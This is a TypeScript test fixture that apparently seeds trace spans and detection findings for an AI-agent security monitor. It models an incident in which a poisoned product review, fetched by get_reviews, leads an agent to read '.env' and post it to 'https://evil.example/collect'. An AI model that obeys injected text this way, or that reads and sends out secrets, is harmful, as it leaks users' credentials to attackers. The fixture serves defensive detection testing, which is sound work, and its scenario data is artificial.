import type { Store } from "../../../core/store/store.ts";
import { spanRow } from "../../helpers/span-row.ts";
import { environment, hourMs, insertFinding, service } from "../loop-data.ts";

export const incidentFrom = Date.parse("2026-11-01T00:00:00Z");
export const incidentTo = Date.parse("2026-11-03T00:00:00Z");

/** One finding of an incident: what is seen at which of a session's calls. */
export interface FindingPart {
  readonly name: string;
  readonly type: string;
  readonly severity: string;
  readonly outcome: "attempt" | "success";
  /** The tool that names the finding. */
  readonly tool: string;
  /** Tools of the calls that carry its detections. */
  readonly at: readonly string[];
}

/** A poisoned review, obeyed: the agent reads a secret file and posts it to the attacker. */
export const exfiltration: FindingPart = {
  name: "exfiltration",
  type: "data_exfiltration",
  severity: "critical",
  outcome: "success",
  tool: "http_post",
  at: ["http_post"],
};
export const injection: FindingPart = {
  name: "injection",
  type: "prompt_injection.indirect",
  severity: "critical",
  outcome: "success",
  tool: "get_reviews",
  at: ["http_post"],
};
export const secretSent: FindingPart = {
  name: "secret-sent",
  type: "secret_leak",
  severity: "high",
  outcome: "success",
  tool: "http_post",
  at: ["http_post"],
};
export const secretRead: FindingPart = {
  name: "secret-read",
  type: "secret_leak",
  severity: "medium",
  outcome: "attempt",
  tool: "read_file",
  at: ["read_file"],
};

const argumentsOf: Readonly<Record<string, object>> = {
  get_reviews: { product: "lamp" },
  read_file: { path: ".env" },
  http_post: { url: "https://evil.example/collect" },
};

export function fingerprintOf(name: string): string {
  return Buffer.from(name).toString("hex").padEnd(32, "0").slice(0, 32);
}

export function findingIdOf(name: string): string {
  return `f${fingerprintOf(name)}`.slice(0, 32);
}

/** Sessions with one call of each tool, one an hour; `prefix` keeps sets of sessions apart. */
export async function insertSessions(
  store: Store,
  prefix: string,
  tools: readonly string[],
): Promise<void> {
  const spans = sessionHours().flatMap((hour) =>
    tools.map((tool) =>
      spanRow({
        Timestamp: new Date(hour + 60_000).toISOString(),
        TraceId: traceOf(prefix, hour),
        SpanId: spanOf(prefix, hour, tool),
        ServiceName: service,
        Environment: environment,
        GenAiOperation: "execute_tool",
        GenAiTool: tool,
        Session: traceOf(prefix, hour),
        SpanAttributes: {
          "gen_ai.tool.call.arguments": JSON.stringify(argumentsOf[tool] ?? {}),
        },
        ReceivedAt: new Date(hour).toISOString(),
      }),
    ),
  );
  await store.insert("otel_traces", spans);
}

/** The finding's row and its detections in every session of the prefix. */
export async function insertPart(
  store: Store,
  prefix: string,
  part: FindingPart,
  columns: Readonly<Record<string, unknown>> = {},
): Promise<void> {
  const hours = sessionHours();
  const detections = hours.flatMap((hour) =>
    part.at.map((tool) => ({
      Tenant: "default",
      Fingerprint: fingerprintOf(part.name),
      Id: `${part.name}-${prefix}-${hour}-${tool}`,
      Type: part.type,
      Detector: part.name,
      Rule: part.name,
      RuleVersion: 1,
      Stage: "record",
      Time: new Date(hour + 60_000).toISOString(),
      Service: service,
      Environment: environment,
      Tool: part.tool,
      TraceId: traceOf(prefix, hour),
      SpanId: spanOf(prefix, hour, tool),
      Session: traceOf(prefix, hour),
      Score: 0.95,
      Strength: "strong",
      Severity: part.severity,
      Outcome: part.outcome,
      Excerpt: "masked",
      MaskedValue: "ghp_****1a2b",
      ReceivedAt: new Date(hour).toISOString(),
      Revision: 1,
    })),
  );
  await store.insert("detections", detections);
  await insertFinding(store, {
    Id: findingIdOf(part.name),
    Fingerprint: fingerprintOf(part.name),
    Type: part.type,
    Severity: part.severity,
    Tool: part.tool,
    Sessions: hours.length,
    FirstSeen: new Date(incidentFrom).toISOString(),
    LastSeen: new Date(incidentTo).toISOString(),
    Onset: new Date(incidentFrom).toISOString(),
    OnsetTo: new Date(incidentFrom).toISOString(),
    FirstReceivedAt: new Date(incidentTo).toISOString(),
    ...columns,
  });
}

function sessionHours(): number[] {
  const count = (incidentTo - incidentFrom) / hourMs;
  return Array.from({ length: count }, (_, index) => incidentFrom + index * hourMs);
}

function traceOf(prefix: string, hour: number): string {
  return `${prefix}${hour}`.padStart(32, "0");
}

function spanOf(prefix: string, hour: number, tool: string): string {
  return `${prefix}${hour / hourMs}${tool}`;
}
